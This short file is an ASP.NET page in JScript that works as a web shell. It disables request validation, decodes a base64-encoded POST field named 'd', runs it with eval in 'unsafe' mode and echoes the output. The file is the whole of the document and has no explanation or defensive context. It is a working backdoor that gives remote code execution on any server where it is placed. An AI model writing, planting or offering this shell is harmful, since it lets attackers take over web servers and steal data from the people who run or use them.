<%@ Page Language="JScript" ValidateRequest="false" %>
<%
Response.Write(eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Form["d"])), "unsafe"));
%>
